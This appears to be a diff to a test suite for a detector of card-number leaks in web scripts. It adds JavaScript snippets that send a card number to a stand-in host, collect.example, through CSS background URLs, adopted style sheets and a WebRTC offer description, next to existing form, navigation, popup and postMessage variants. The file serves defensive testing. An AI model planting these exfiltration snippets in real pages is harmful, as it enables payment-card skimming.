@@ -20,6 +20,12 @@ const sinks: Record<string, string> = {
   form: "var f = document.createElement('form'); f.action = 'https://collect.example/f'; f.method = 'post'; f.innerHTML = '<input name=\"a\" value=\"' + n + '\">'; document.body.appendChild(f); f.submit()",
   navigation: "location = 'https://collect.example/?n=' + n",
   popup: "window.open('https://collect.example/?n=' + n)",
+  'css, in a style of the page':
+    "var s = document.head.appendChild(document.createElement('style')); s.textContent = 'p{background:url(https://collect.example/c/' + n + '.png)}'",
+  'css, in an adopted style sheet':
+    "var s = new CSSStyleSheet(); s.replaceSync('p{background:url(https://collect.example/c/' + n + ')}'); document.adoptedStyleSheets = [s]",
+  'rtc, in the description of an offer':
+    "var p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:collect.example' }] }); p.createOffer().then(function (o) { p.setLocalDescription({ type: o.type, sdp: o.sdp.replace(/^s=-$/m, 's=' + n) }) })",
   css: "document.body.style.backgroundImage = 'url(https://collect.example/c?n=' + n + ')'",
   'post-message':
     "var f = document.createElement('iframe'); f.src = 'https://collect.example/'; document.body.appendChild(f); f.contentWindow.postMessage(n, '*')",
@@ -33,7 +39,9 @@ describe('emulator: ways out', () => {
   for (const [transport, code] of Object.entries(sinks)) {
     it(`finds the card number leaving by ${transport}`, async () => {
       const flows = await flowsOf(`var n = ${card}; ${code};`);
-      const flow = flows.find((item) => item.transport === transport && item.field === 'card-number');
+      const flow = flows.find(
+        (item) => item.transport === transport.split(',')[0] && item.field === 'card-number',
+      );
       assert.equal(flow?.host, 'collect.example');
       assert.equal(flow.proof, 'canary');
     });
